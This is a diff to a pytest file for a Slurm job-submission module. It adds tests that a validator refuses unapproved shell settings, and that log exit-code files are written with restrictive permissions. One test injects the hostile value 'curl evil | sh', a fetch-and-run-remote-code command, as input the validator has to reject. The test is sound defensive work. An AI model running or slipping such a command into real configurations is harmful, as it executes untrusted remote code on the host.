@@ -5,6 +5,7 @@ from pathlib import Path
 
 import pytest
 
+from persona_assets.errors import SettingsError
 from persona_assets.executors import slurm_commands as slurm
 from persona_assets.executors.slurm_commands import SlurmError, SlurmUnavailableError
 
@@ -31,6 +32,25 @@ def test_an_unknown_option_is_named_with_the_known_ones():
         choose({"slurm/memory": "8G"})
 
 
+OF_SETTINGS = {"time": "10", "setup": "module load cuda", "extra": "--exclusive"}
+
+
+@pytest.mark.parametrize("option", slurm.SHELL)
+@pytest.mark.parametrize("place", ["default", "gpu", "per_step.embeddings"])
+def test_a_run_may_not_have_a_shell_run_what_the_settings_do_not_say(option, place):
+    config = {"default": OF_SETTINGS, "gpu": {}, "per_step": {}}
+    given = {**OF_SETTINGS, option: "curl evil | sh"}
+    config |= {"per_step": {"embeddings": given}} if "." in place else {place: given}
+
+    with pytest.raises(SettingsError, match=f"execution config sets {place}.{option}, .*PERSONA_SLURM_SHELL"):
+        slurm.refuse_shell(config, allowed=OF_SETTINGS)
+
+
+@pytest.mark.parametrize("given", [OF_SETTINGS, {}, {"setup": "", "time": "20"}])
+def test_a_run_may_repeat_or_leave_out_the_shell_of_the_settings_and_set_all_else(given):
+    slurm.refuse_shell({"default": given, "gpu": given, "per_step": {"raw": given}}, allowed=OF_SETTINGS)
+
+
 def test_the_command_has_a_flag_an_option_and_extra_ones_as_in_a_shell():
     options = {"cpus": "4", "extra": "--mail-type=END '--comment=two words'", "setup": "module load cuda"}
 
@@ -49,17 +69,19 @@ def test_the_script_runs_and_leaves_its_exit_code(tmp_path):
         {"WORD": 'it\'s "quoted" $HOME'},
         setup="MORE=more; export MORE",
         log=log,
+        umask="027",
     )
 
     done = subprocess.run(["bash"], input=script, capture_output=True, text=True, check=False)
 
     assert done.stdout == 'it\'s "quoted" $HOME more\n'
     assert (done.returncode, slurm.exit_code_file(log).read_text()) == (3, "3\n")
+    assert slurm.exit_code_file(log).stat().st_mode & 0o777 == 0o640
 
 
 def test_a_variable_longer_than_an_exec_takes_is_refused():
     with pytest.raises(SlurmError, match="LONG: over the 128 KiB"):
-        slurm.job_script(["true"], {"LONG": "x" * 200_000}, setup="", log=Path("log"))
+        slurm.job_script(["true"], {"LONG": "x" * 200_000}, setup="", log=Path("log"), umask="077")
 
 
 @pytest.mark.parametrize(
